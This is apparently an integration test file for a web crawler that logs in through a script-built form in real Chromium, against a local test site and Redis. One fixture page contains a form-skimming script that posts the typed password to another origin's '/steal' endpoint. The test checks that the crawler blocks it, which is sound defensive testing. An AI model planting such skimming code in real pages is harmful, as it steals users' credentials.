import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startRedis, type RedisServer } from '../support/services';
import { bufferedPages, session, writeTask } from '../support/crawl';
import { cookiesOf, requestBody } from '../support/httpRequest';
import { browserOrSkip } from '../support/browser';
import { redisDump } from '../support/redisDump';

// A login form built by a script (issue 30, item 3): the login page is an empty shell whose script fetches a CSRF
// token and builds the form; the form posts JSON with the token. Fetched, the page has no form at all. With
// `login: { browser: true }` the worker renders it in a real Chromium, fills the fields by selector, submits, and
// the session's cookies then serve a fetched rule (the members' list) and a rendered one (each member's page).
// Real HTTP server, real Redis, real worker processes.

const USER = 'ann';
const PASSWORD = 'Script-Pw-8812';
const MEMBERS = 4;

interface Site {
  url: string;
  server: Server;
  logins: number;
  failedLogins: number;
  /** Protected pages asked for without a valid auth cookie. */
  unauthorised: number;
}

async function scriptLoginSite(elsewhere: () => string): Promise<Site> {
  const csrf = new Map<string, string>(); // sid -> token
  const auth = new Set<string>();
  const site = { logins: 0, failedLogins: 0, unauthorised: 0 } as Site;
  const html = (res: ServerResponse, body: string, headers: Record<string, string> = {}) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers });
    res.end(`<!doctype html><html><body>${body}</body></html>`);
  };
  site.server = createServer((req, res) => {
    void (async () => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      const cookies = cookiesOf(req);
      if (path === '/robots.txt') return res.writeHead(404).end();
      if (path === '/login') return html(res, '<div id="app">loading…</div><script src="/login.js"></script>');
      if (path === '/login-elsewhere') {
        // A login page whose script sends what is typed to another origin.
        return html(
          res,
          `<form id="f"><input id="user"><input id="password" type="password"><button id="go">Log in</button></form><script>
document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault();
  fetch(${JSON.stringify(elsewhere())} + '/steal', { method: 'POST', mode: 'no-cors', body: document.getElementById('password').value }).catch(() => {}); });
</script>`,
        );
      }
      if (path === '/login.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        return res.end(`(async () => {
  const { token } = await (await fetch('/csrf')).json();
  const app = document.getElementById('app');
  app.innerHTML = '<form id="f"><input id="user"><input id="password" type="password"><button id="go" type="submit">Log in</button></form>';
  document.getElementById('f').addEventListener('submit', async (e) => {
    e.preventDefault();
    const r = await fetch('/session', { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf': token },
      body: JSON.stringify({ user: document.getElementById('user').value, password: document.getElementById('password').value }) });
    if (r.ok) location.href = '/';
    else app.insertAdjacentHTML('beforeend', '<p class="error">wrong</p>');
  });
})();`);
      }
      if (path === '/csrf') {
        const sid = randomBytes(8).toString('hex');
        const token = randomBytes(8).toString('hex');
        csrf.set(sid, token);
        res.writeHead(200, { 'content-type': 'application/json', 'set-cookie': `sid=${sid}; Path=/; HttpOnly` });
        return res.end(JSON.stringify({ token }));
      }
      if (path === '/session' && req.method === 'POST') {
        const body = JSON.parse(await requestBody(req)) as { user?: string; password?: string };
        const sid = cookies.get('sid');
        const ok =
          sid !== undefined &&
          csrf.get(sid) === req.headers['x-csrf'] &&
          body.user === USER &&
          body.password === PASSWORD;
        if (!ok) {
          site.failedLogins++;
          res.writeHead(403, { 'content-type': 'application/json' });
          return res.end('{"ok":false}');
        }
        site.logins++;
        const token = randomBytes(8).toString('hex');
        auth.add(token);
        res.writeHead(200, { 'content-type': 'application/json', 'set-cookie': `auth=${token}; Path=/; HttpOnly` });
        return res.end('{"ok":true}');
      }
      const token = cookies.get('auth');
      if (token === undefined || !auth.has(token)) {
        site.unauthorised++;
        res.writeHead(302, { location: '/login' });
        return res.end();
      }
      if (path === '/') {
        return html(
          res,
          '<a class="logout" href="/logout">log out</a>' +
            Array.from({ length: MEMBERS }, (_, i) => `<a class="member" href="/members/${i + 1}">${i + 1}</a>`).join(
              '',
            ),
        );
      }
      const m = /^\/members\/(\d+)$/.exec(path);
      if (!m) return html(res, 'no such page');
      // The member's name is written by the page's script: only a rendered page has it.
      return html(
        res,
        `<a class="logout" href="/logout">log out</a><h1 class="name"></h1><script>document.querySelector('h1').textContent = 'Member ${m[1]}'</script>`,
      );
    })();
  });
  await new Promise<void>((r) => site.server.listen(0, '127.0.0.1', r));
  site.url = `http://127.0.0.1:${(site.server.address() as AddressInfo).port}`;
  return site;
}

describe('a login form built by a script, in the browser (real Chromium, real site, Redis and workers)', function () {
  this.timeout(120_000);
  let redis: RedisServer;
  let site: Site;
  let other: Server;
  let otherUrl = '';
  /** What the other origin received. */
  const received: string[] = [];

  before(async function () {
    browserOrSkip(this);
    redis = await startRedis();
    other = createServer((req, res) => {
      void requestBody(req).then((b) => {
        received.push(`${req.method} ${req.url} ${b}`);
        res.writeHead(200).end();
      });
    });
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
    otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    site = await scriptLoginSite(() => otherUrl);
  });
  after(async () => {
    other?.close();
    site?.server.close();
    await redis?.stop();
  });

  it('logs in by rendering the login page and filling its fields; fetched and rendered members-only pages are stored', async () => {
    const task = await writeTask(`name: script-login
start: [${site.url}/]
request: { retries: { attempts: 2, delay: 10ms } }
session: { pool: 1 }
login:
  url: ${site.url}/login
  browser: true
  form:
    fields: { '#user': '\${CRAWL_STUDIO_SITE_USER}', '#password': '\${CRAWL_STUDIO_SITE_PASSWORD}' }
    submit: '#go'
  check: { selector: .logout }
rules:
  - name: home
    follow: [{ selector: a.member, to: member }]
  - name: member
    browser: { waitFor: load, timeout: 10s }
    items: [{ type: member, key: [name], fields: { name: h1.name } }]
`);
    const logs: string[] = [];
    const secretEnv = { CRAWL_STUDIO_SITE_USER: USER, CRAWL_STUDIO_SITE_PASSWORD: PASSWORD };
    const s = session(task, redis.url, {
      workers: 1,
      concurrency: 2,
      secretEnv,
      lockDurationMs: 30_000,
      stalledIntervalMs: 5_000,
      onWorkerLog: (_pid, line) => logs.push(line),
    });
    const result = await s.run();
    const dump = await redisDump(redis.url);
    await s.close();
    const pages = await bufferedPages(redis.url, task.name);
    const names = pages.flatMap((p) => p.items.map((i) => String(i.data.name))).sort();
    const log = logs.join('\n');
    const stats = result.status.stats!;

    assert.equal(stats.failed, 0, `no page failed: ${JSON.stringify(stats.failures)}\n${log}`);
    assert.deepEqual(
      names,
      Array.from({ length: MEMBERS }, (_, i) => `Member ${i + 1}`),
      log,
    );
    assert.equal(site.logins, 1, `one login for the one session\n${log}`);
    assert.equal(site.failedLogins, 0);
    assert.match(log, /session 0 logged in at/);
    assert.ok(!log.includes(PASSWORD) && !dump.includes(PASSWORD), 'the password is in no log and not in Redis');
  });

  it('a wrong password fails the login once, with the reason, and its pages as login', async () => {
    const task = await writeTask(`name: script-login-bad
start: [${site.url}/]
session: { pool: 1 }
login:
  url: ${site.url}/login
  browser: true
  form: { fields: { '#user': ann, '#password': '\${CRAWL_STUDIO_SITE_PASSWORD}' } }
  check: { selector: .logout }
rules: [{ name: home, follow: [{ selector: a.member }] }]
`);
    const logs: string[] = [];
    const s = session(task, redis.url, {
      workers: 1,
      concurrency: 1,
      secretEnv: { CRAWL_STUDIO_SITE_PASSWORD: 'wrong-one' },
      lockDurationMs: 30_000,
      stalledIntervalMs: 5_000,
      onWorkerLog: (_pid, line) => logs.push(line),
    });
    const result = await s.run();
    await s.close();
    const log = logs.join('\n');
    assert.equal(result.status.stats!.failures.login, 1, `${JSON.stringify(result.status.stats)}\n${log}`);
    assert.match(
      log,
      /login to http:\/\/127\.0\.0\.1:\d+\/login failed: http:\/\/127\.0\.0\.1:\d+\/login has no \.logout/,
      log,
    );
  });

  it("refuses the login page's requests that carry a body to another origin: the password never leaves for it", async () => {
    // allowPrivate: the address guard would stop the other loopback server anyway; the origin rule must stand alone.
    const task = await writeTask(`name: script-login-elsewhere
start: [${site.url}/]
request: { timeout: 5s }
scope: { allowPrivate: true }
session: { pool: 1 }
login:
  url: ${site.url}/login-elsewhere
  browser: true
  form: { fields: { '#user': ann, '#password': '\${CRAWL_STUDIO_SITE_PASSWORD}' }, submit: '#go' }
  check: { selector: .logout }
rules: [{ name: home, follow: [{ selector: a.member }] }]
`);
    const logs: string[] = [];
    const s = session(task, redis.url, {
      workers: 1,
      concurrency: 1,
      secretEnv: { CRAWL_STUDIO_SITE_PASSWORD: PASSWORD },
      lockDurationMs: 30_000,
      stalledIntervalMs: 5_000,
      onWorkerLog: (_pid, line) => logs.push(line),
    });
    const result = await s.run();
    await s.close();
    const log = logs.join('\n');
    assert.equal(result.status.stats!.failures.login, 1, `${JSON.stringify(result.status.stats)}\n${log}`);
    assert.deepEqual(received, [], 'the other origin received nothing');
    assert.ok(!log.includes(PASSWORD));
  });
});
